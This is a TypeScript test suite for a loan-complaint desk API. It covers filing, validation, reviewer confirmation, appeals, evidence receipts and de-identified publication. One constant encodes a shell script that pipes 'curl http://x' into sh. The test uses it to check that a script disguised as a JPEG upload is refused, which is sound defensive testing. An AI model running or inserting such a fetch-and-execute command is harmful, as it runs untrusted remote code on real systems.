// The complaint desk through HTTP on a real database: filing (borrower and platform), bad input,
// review with a second confirmation, appeals (once, in time, to a different reviewer), and
// publication blocked by the de-identification check.
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { fixedClock } from '../../services/ports.ts'
import { startTestApp, type TestApp, type TestClient } from '../../../test/helpers/app.ts'
import { DIALECTS } from '../../../test/helpers/db.ts'

const LENDER = '示范消费金融公司'
const FORM = {
  respondent: LENDER,
  title: '暴力催收，每天打20个电话',
  problem: '暴力催收',
  text: '逾期三天，催收员每天打20个电话，还打给我同事，威胁起诉我。',
  requests: '停止骚扰,协商还款',
  amount: 5000,
  contact: { phone: '13800138000' },
}
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46]).toString('base64')
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://x | sh\n').toString('base64')

for (const dialect of DIALECTS) {
  describe(`complaint desk API (${dialect})`, () => {
    let t: TestApp
    let platformId: string
    let reviewer: TestClient
    let moderator: TestClient
    // Monday 2025-03-03 10:00 in China.
    const clock = fixedClock(new Date('2025-03-03T02:00:00Z'))

    before(async () => {
      t = await startTestApp(dialect, { clock })
      reviewer = await t.login('reviewer@platform.demo')
      moderator = await t.login('moderator@platform.demo')
      const targets = await t.anonymous().get('/api/v1/public/complaint-targets')
      platformId = targets.body.platforms.find(
        (p: { name: string }) => p.name === '公道投诉平台',
      ).id
    })
    after(() => t.close())

    async function fileAsBorrower(form: object = FORM, files: object[] = []) {
      const anon = t.anonymous()
      const code = await anon.post('/api/v1/public/verification-codes', { phone: '13800138000' })
      assert.equal(code.status, 201)
      return anon.post(`/api/v1/public/platforms/${platformId}/complaints`, {
        form,
        files,
        complainant: { deviceId: 'fp-visitor-1' },
        verification: { id: code.body.verificationId, code: code.body.demoCode },
      })
    }

    it('should refuse a wrong verification code', async () => {
      const anon = t.anonymous()
      const code = await anon.post('/api/v1/public/verification-codes', { phone: '13800138000' })
      const wrong = code.body.demoCode === '000000' ? '000001' : '000000'
      const res = await anon.post(`/api/v1/public/platforms/${platformId}/complaints`, {
        form: FORM,
        verification: { id: code.body.verificationId, code: wrong },
      })
      assert.equal(res.status, 400)
      assert.deepEqual(res.body.error.details[0].path, ['verification', 'code'])
    })

    const BAD = [
      {
        desc: 'missing fields',
        form: { respondent: LENDER },
        files: [],
        codes: ['cause_missing', 'text_too_short', 'amount_missing', 'contact_missing'],
      },
      {
        desc: 'an unknown respondent',
        form: { ...FORM, respondent: '不存在的贷款公司' },
        files: [],
        codes: ['respondent_unknown'],
      },
      {
        desc: 'an amount over 200,000 yuan',
        form: { ...FORM, amount: 250000 },
        files: [],
        codes: ['amount_out_of_scope'],
      },
      {
        desc: 'a script named .jpg',
        form: FORM,
        files: [{ fileName: '截图.jpg', contentBase64: SCRIPT }],
        codes: ['upload_disguised_script'],
      },
    ]
    for (const { desc, form, files, codes } of BAD) {
      it(`should refuse ${desc} with a clear reason per field and store nothing`, async () => {
        const before = await reviewer.get('/api/v1/complaints')
        const res = await reviewer.post('/api/v1/complaints', { form, files })
        assert.equal(res.status, 400)
        assert.equal(res.body.error.code, 'VALIDATION_FAILED')
        for (const c of codes) {
          assert.ok(
            res.body.error.message.length > 0 && res.body.error.details.length >= codes.length,
            c,
          )
        }
        assert.ok(
          res.body.error.details.every((d: { message: string }) =>
            /[\u4e00-\u9fff]/.test(d.message),
          ),
        )
        const after = await reviewer.get('/api/v1/complaints')
        assert.equal(after.body.items.length, before.body.items.length)
      })
    }

    it('should refuse unknown fields on the platform API', async () => {
      const res = await reviewer.post('/api/v1/complaints', { form: { ...FORM, secret: 1 } })
      assert.equal(res.status, 400)
    })

    it('should accept a platform push once per external id and answer the repeat with the first complaint', async () => {
      const body = {
        externalId: 'heimao-1',
        form: {
          ...FORM,
          text: '平台推送：催收员辱骂我并威胁上门。',
          contact: { email: 'a@example.com' },
        },
      }
      const first = await reviewer.post('/api/v1/complaints', body)
      assert.equal(first.status, 201, JSON.stringify(first.body))
      assert.equal(first.body.replayed, false)
      const again = await reviewer.post('/api/v1/complaints', body)
      assert.equal(again.status, 200, JSON.stringify(again.body))
      assert.equal(again.body.id, first.body.id)
      assert.equal(again.body.replayed, true)
      assert.equal(again.body.accessToken, null, 'the token is shown once, to the first push')
    })

    it('should store one complaint when eight pushes with the same external id race', async () => {
      const body = {
        externalId: 'heimao-race',
        form: {
          ...FORM,
          text: '并发推送：催收员每天打电话骚扰我的家人。',
          contact: { email: 'r@example.com' },
        },
      }
      const all = await Promise.all(
        Array.from({ length: 8 }, () => reviewer.post('/api/v1/complaints', body)),
      )
      const statuses = all.map((r) => r.status).sort()
      assert.deepEqual(
        statuses,
        [200, 200, 200, 200, 200, 200, 200, 201],
        JSON.stringify(all.map((r) => r.body)),
      )
      assert.equal(new Set(all.map((r) => r.body.id)).size, 1)
      const q = await reviewer.get('/api/v1/complaints')
      assert.equal(
        q.body.items.filter((i: { title: string; id: string }) => i.id === all[0].body.id).length,
        1,
      )
    })

    let complaintId = ''
    let token = ''
    it('should file a borrower complaint into the fast lane with a 1-working-day deadline', async () => {
      const res = await fileAsBorrower(FORM, [{ fileName: '截图.jpg', contentBase64: JPEG }])
      assert.equal(res.status, 201, JSON.stringify(res.body))
      complaintId = res.body.id
      token = res.body.accessToken
      assert.equal(res.body.lane, 'fast', JSON.stringify(res.body.reasons))
      // Received Monday 03-03: due at the end of Tuesday 03-04.
      assert.equal(res.body.dueAt, '2025-03-05T00:00:00+08:00')
    })

    it('should queue it and show analysis spans, reconciliation rows and history', async () => {
      const q = await reviewer.get('/api/v1/complaints')
      const row = q.body.items.find((i: { id: string }) => i.id === complaintId)
      assert.ok(row)
      assert.equal(row.overdue, false)
      const d = await reviewer.get(`/api/v1/complaints/${complaintId}`)
      assert.equal(d.status, 200)
      assert.ok(d.body.analysis.behaviors.includes('calls_excessive'))
      assert.ok(d.body.reconciliation.rows.length > 0)
      // No date or phrase in the text: the default window, 30 days before through the filing day.
      assert.equal(d.body.reconciliation.period.basis, 'default')
      assert.equal(d.body.reconciliation.period.from, '2025-02-01T00:00:00+08:00')
      assert.equal(d.body.reconciliation.period.to, '2025-03-04T00:00:00+08:00')
      assert.equal(d.body.files[0].format, 'jpeg')
      assert.deepEqual(
        d.body.events.map((e: { type: string }) => e.type),
        ['filed'],
      )
      assert.ok(!JSON.stringify(d.body).includes('13800138000'), 'no plaintext phone')
    })

    it('should send a second identical complaint within 24 hours to the thorough lane as a duplicate', async () => {
      const res = await fileAsBorrower()
      assert.equal(res.body.lane, 'thorough')
      assert.equal(res.body.duplicateOf, complaintId)
    })

    it('should require a second, different reviewer to confirm a malicious verdict', async () => {
      const act = (c: TestClient, body: object) =>
        c.post(`/api/v1/complaints/${complaintId}/actions`, body)
      assert.equal(
        (await act(reviewer, { type: 'decide', verdict: 'malicious', reason: '模板投诉' })).status,
        200,
      )
      const same = await act(reviewer, { type: 'confirm_malicious' })
      assert.equal(same.status, 400)
      assert.equal(same.body.error.code, 'SECOND_REVIEWER_REQUIRED')
      const ok = await act(moderator, { type: 'confirm_malicious' })
      assert.equal(ok.status, 200)
      assert.equal(ok.body.state.status, 'decided')
    })

    it('should let the complainant appeal once, decided by a reviewer not in the first verdict', async () => {
      const anon = t.anonymous()
      const h = { 'x-complaint-token': token }
      const own = await anon.request(
        'GET',
        `/api/v1/public/complaints/${complaintId}`,
        undefined,
        h,
      )
      assert.equal(own.body.verdict, 'malicious')
      assert.equal(
        (
          await anon.request('GET', `/api/v1/public/complaints/${complaintId}`, undefined, {
            'x-complaint-token': 'wrong',
          })
        ).status,
        404,
      )
      const appeal = await anon.request(
        'POST',
        `/api/v1/public/complaints/${complaintId}/actions`,
        { type: 'appeal', reason: '我有通话录音' },
        h,
      )
      assert.equal(appeal.status, 200)
      const again = await anon.request(
        'POST',
        `/api/v1/public/complaints/${complaintId}/actions`,
        { type: 'appeal', reason: '再次' },
        h,
      )
      assert.equal(again.body.error.code, 'APPEAL_ALREADY_USED')
      const first = await reviewer.post(`/api/v1/complaints/${complaintId}/actions`, {
        type: 'decide_appeal',
        verdict: 'not_substantiated',
        reason: '改判',
      })
      assert.equal(first.body.error.code, 'APPEAL_NEEDS_DIFFERENT_REVIEWER')
      const admin = await t.login('admin@platform.demo')
      const made = await admin.post('/api/v1/users', {
        email: 'reviewer3@platform.demo',
        name: '第三审核',
        password: 'correct horse battery staple',
        roles: ['reviewer'],
      })
      assert.equal(made.status, 201, JSON.stringify(made.body))
      const third = await t.login('reviewer3@platform.demo', 'correct horse battery staple')
      const done = await third.post(`/api/v1/complaints/${complaintId}/actions`, {
        type: 'decide_appeal',
        verdict: 'not_substantiated',
        reason: '复核：无恶意证据',
      })
      assert.equal(done.status, 200)
      assert.equal(done.body.state.status, 'closed')
    })

    it('should anchor every transition in the evidence log, with a receipt per event', async () => {
      const d = await reviewer.get(`/api/v1/complaints/${complaintId}`)
      const events = d.body.events as { id: string; type: string; evidenceIndex: number | null }[]
      // filed, decide, confirm_malicious, appeal, decide_appeal: five transitions, five leaves.
      assert.deepEqual(
        events.map((e) => e.type),
        ['filed', 'decide', 'confirm_malicious', 'appeal', 'decide_appeal'],
      )
      const indices = events.map((e) => e.evidenceIndex)
      assert.ok(
        indices.every((i) => typeof i === 'number'),
        JSON.stringify(indices),
      )
      assert.equal(new Set(indices).size, events.length)
      const decided = events.find((e) => e.type === 'decide')!
      const r = await reviewer.get(`/api/v1/complaints/${complaintId}/events/${decided.id}/receipt`)
      assert.equal(r.status, 200, JSON.stringify(r.body))
      assert.equal(r.body.index, decided.evidenceIndex)
      assert.equal(r.body.entry.schema, 'gongdao.evidence.complaint-event/v1')
      assert.equal(r.body.entry.event_type, 'decided')
      assert.equal(r.body.entry.verdict, 'malicious')
      assert.equal(r.body.entry.event_id, decided.id)
      assert.match(r.body.checkpoint, /— /)
      const text = JSON.stringify(r.body)
      assert.ok(
        !text.includes('13800138000') && !text.includes('模板投诉'),
        'no personal data or reason text',
      )
      const foreign = await reviewer.get(
        `/api/v1/complaints/${complaintId}/events/not-an-event/receipt`,
      )
      assert.equal(foreign.status, 404)
    })

    it('should block publication of a case that still identifies a person, and publish a clean one', async () => {
      const bad = await reviewer.post(`/api/v1/complaints/${complaintId}/publish`, {
        title: '典型案例',
        body: '借款人电话 13800138000，王建国先生多次被催收。',
      })
      assert.equal(bad.status, 400)
      assert.equal(bad.body.error.code, 'DEIDENTIFICATION_FAILED')
      const good = await reviewer.post(`/api/v1/complaints/${complaintId}/publish`, {
        title: '典型案例：复核改判',
        body: '借款人王某投诉频繁催收，初审认定恶意，复核改为不属实。',
      })
      assert.equal(good.status, 201, JSON.stringify(good.body))
      const page = await t
        .anonymous()
        .get(`/api/v1/public/lenders/${good.body.lenderId}/transparency`)
      assert.equal(page.body.cases.length, 1)
      const d = await reviewer.get(`/api/v1/complaints/${complaintId}`)
      const last = d.body.events.at(-1)
      assert.equal(last.type, 'published')
      assert.equal(typeof last.evidenceIndex, 'number', 'the publication is anchored too')
      assert.equal(page.body.lender.name, LENDER)
      assert.ok(page.body.statistics.total >= 2)
    })

    it('should refuse an appeal after its deadline', async () => {
      const res = await fileAsBorrower({
        ...FORM,
        text: '另一件投诉：催收员辱骂我，还打给我家人。',
        requests: '道歉',
      })
      const id = res.body.id
      const decided = await reviewer.post(`/api/v1/complaints/${id}/actions`, {
        type: 'decide',
        verdict: 'not_substantiated',
        reason: '无记录',
      })
      assert.equal(decided.status, 200)
      clock.advance(30 * 86_400_000)
      const late = await t
        .anonymous()
        .request(
          'POST',
          `/api/v1/public/complaints/${id}/actions`,
          { type: 'appeal', reason: '迟到的复核' },
          { 'x-complaint-token': res.body.accessToken },
        )
      assert.equal(late.status, 400)
      assert.equal(late.body.error.code, 'APPEAL_DEADLINE_PASSED')
    })

    it('should let the organisation set its review deadlines, refuse bad values, and queue by them', async () => {
      // The sessions of the earlier tests expired when the clock moved on 30 days.
      const moderator = await t.login('moderator@platform.demo')
      const reviewer = await t.login('reviewer@platform.demo')
      const bad = await moderator.request('PUT', '/api/v1/complaints/settings', {
        fastLaneWorkingDays: 0,
        thoroughLaneWorkingDays: 3,
        lenderResponseWorkingDays: 5,
        appealWorkingDays: 10,
      })
      assert.equal(bad.status, 400)
      assert.deepEqual(bad.body.error.details[0].path, ['fastLaneWorkingDays'])
      const forbidden = await reviewer.request('PUT', '/api/v1/complaints/settings', {
        fastLaneWorkingDays: 2,
        thoroughLaneWorkingDays: 4,
        lenderResponseWorkingDays: 5,
        appealWorkingDays: 10,
      })
      assert.equal(
        forbidden.status,
        404,
        'a reviewer may not change settings (answered as not found)',
      )
      const ok = await moderator.request('PUT', '/api/v1/complaints/settings', {
        fastLaneWorkingDays: 2,
        thoroughLaneWorkingDays: 4,
        lenderResponseWorkingDays: 5,
        appealWorkingDays: 10,
      })
      assert.equal(ok.status, 200, JSON.stringify(ok.body))
      const seen = await reviewer.get('/api/v1/complaints/settings')
      assert.equal(seen.body.fastLaneWorkingDays, 2)
      assert.equal(seen.body.isDefault, false)
      assert.equal(seen.body.defaults.fastLaneWorkingDays, 1)
      // The clock now reads Wednesday 2025-04-02 (advanced 30 days above). Two working days:
      // Thursday 04-03, then 清明 (04-04 to 04-06) is skipped, Monday 04-07: due at its end.
      const res = await reviewer.post('/api/v1/complaints', {
        form: {
          ...FORM,
          text: '设置之后：催收员每天打电话到我家里。',
          contact: { email: 'settings@example.com' },
        },
      })
      assert.equal(res.status, 201, JSON.stringify(res.body))
      assert.equal(res.body.lane, 'fast', JSON.stringify(res.body.reasons))
      assert.equal(res.body.dueAt, '2025-04-08T00:00:00+08:00')
    })
  })
}
